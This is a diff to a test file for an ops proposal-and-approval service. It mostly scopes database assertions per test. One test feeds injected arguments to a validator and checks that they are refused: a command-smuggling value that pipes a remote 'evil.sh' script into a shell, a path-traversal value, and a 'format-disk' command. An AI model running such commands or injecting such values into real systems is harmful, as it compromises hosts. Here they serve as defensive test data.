@@ -20,16 +20,20 @@ describe.each(storeDrivers())('proposal service ($name)', ({ name, setup }) => {
   let db: Database;
   let clock: ReturnType<typeof manualClock>;
   let service: ProposalService;
-  beforeEach(async () => {
+  // One store per driver for the whole file (opening PGlite takes seconds); assertions are scoped
+  // to each test's own proposals.
+  beforeAll(async () => {
     driver = await setup();
     db = await driver.open();
     await migrate(db);
+  });
+  afterAll(() => driver.teardown());
+  beforeEach(() => {
     clock = manualClock();
     service = makeService(db, { clock: clock.now });
   });
   afterEach(async () => {
     expect(await verifyAuditLog(db)).toMatchObject({ ok: true });
-    await driver.teardown();
   });
 
   it('submits, audits, and runs after one approval with the dry run first; shell text stays one literal argv element', async () => {
@@ -50,11 +54,12 @@ describe.each(storeDrivers())('proposal service ($name)', ({ name, setup }) => {
   });
 
   it('refuses a proposal whose arguments fail the catalog (injected chat text), on the record', async () => {
-    await expect(service.submit(proposal('restart', { service: 'api; curl evil.sh | sh', environment: 'production' }))).rejects.toThrow(/service: must match/);
-    await expect(service.submit(proposal('restart', { service: '../../etc', environment: 'production' }))).rejects.toThrow(/service: must match/);
-    await expect(service.submit(proposal('format-disk', { service: 'api' }))).rejects.toThrow(/unknown command/);
-    expect(await count(db, 'SELECT count(*) AS n FROM proposals')).toBe(0);
-    expect(await count(db, `SELECT count(*) AS n FROM audit_log WHERE action = 'proposal.refused'`)).toBe(3);
+    const injected = { incidentId: 'INC-INJECTED' };
+    await expect(service.submit(proposal('restart', { service: 'api; curl evil.sh | sh', environment: 'production' }, injected))).rejects.toThrow(/service: must match/);
+    await expect(service.submit(proposal('restart', { service: '../../etc', environment: 'production' }, injected))).rejects.toThrow(/service: must match/);
+    await expect(service.submit(proposal('format-disk', { service: 'api' }, injected))).rejects.toThrow(/unknown command/);
+    expect(await count(db, `SELECT count(*) AS n FROM proposals WHERE incident_id = 'INC-INJECTED'`)).toBe(0);
+    expect(await count(db, `SELECT count(*) AS n FROM audit_log WHERE action = 'proposal.refused' AND details->>'incidentId' = 'INC-INJECTED'`)).toBe(3);
   });
 
   it('denies an unauthorized approver and says who can approve', async () => {
@@ -63,7 +68,7 @@ describe.each(storeDrivers())('proposal service ($name)', ({ name, setup }) => {
     expect(result.outcome).toBe('denied');
     expect(result.reason).toMatch(/needs one on-call engineer or team lead/);
     expect(result.proposal.status).toBe('proposed');
-    expect(await count(db, 'SELECT count(*) AS n FROM approvals')).toBe(0);
+    expect(await count(db, 'SELECT count(*) AS n FROM approvals WHERE proposal_id = $1', [p.id])).toBe(0);
     expect(await actions(db, p.id)).toEqual(['proposal.submitted', 'approval.denied']);
   });
 
@@ -92,7 +97,7 @@ describe.each(storeDrivers())('proposal service ($name)', ({ name, setup }) => {
     // The first approval lapsed, so the second cannot complete the pair.
     const afterExpiry = await service.approve(two.id, { userId: 'ULEAD2' });
     expect(afterExpiry.outcome).toBe('expired');
-    expect(await count(db, 'SELECT count(*) AS n FROM executions')).toBe(0);
+    expect(await count(db, 'SELECT count(*) AS n FROM executions WHERE proposal_id IN ($1, $2)', [p.id, two.id])).toBe(0);
   });
 
   it('ends the proposal on a rejection', async () => {
@@ -102,7 +107,7 @@ describe.each(storeDrivers())('proposal service ($name)', ({ name, setup }) => {
     expect(after.outcome).toBe('rejected');
     expect(after.reason).toMatch(/wrong service/);
     expect((await service.reject(p.id, { userId: 'UANY' })).outcome).toBe('not-pending');
-    expect(await count(db, 'SELECT count(*) AS n FROM executions')).toBe(0);
+    expect(await count(db, 'SELECT count(*) AS n FROM executions WHERE proposal_id = $1', [p.id])).toBe(0);
   });
 
   it('runs once for a double click, and once for many concurrent clicks', async () => {
@@ -138,7 +143,7 @@ describe.each(storeDrivers())('proposal service ($name)', ({ name, setup }) => {
     expect(retry.reason).toMatch(/never re-run automatically/);
     await running; // the "crashed" run finishing late does not overwrite unknown
     expect((await service.get(p.id))!.status).toBe('unknown');
-    expect(await count(db, 'SELECT count(*) AS n FROM executions')).toBe(1);
+    expect(await count(db, 'SELECT count(*) AS n FROM executions WHERE proposal_id = $1', [p.id])).toBe(1);
     expect(await actions(db, p.id)).toEqual(['proposal.submitted', 'approval.recorded', 'execution.started', 'execution.unknown', 'execution.finished-late']);
   });
 
@@ -163,7 +168,7 @@ describe.each(storeDrivers())('proposal service ($name)', ({ name, setup }) => {
     expect(paused.outcome).toBe('paused');
     expect(paused.reason).toMatch(/paused by cli:ops .*\(change freeze\).*opsight executor resume/);
     expect(paused.proposal.status).toBe('approved');
-    expect(await count(db, 'SELECT count(*) AS n FROM executions')).toBe(0);
+    expect(await count(db, 'SELECT count(*) AS n FROM executions WHERE proposal_id = $1', [p.id])).toBe(0);
     await service.resume('cli:ops');
     expect((await service.approve(p.id, { userId: 'UANY' })).outcome).toBe('executed');
   });
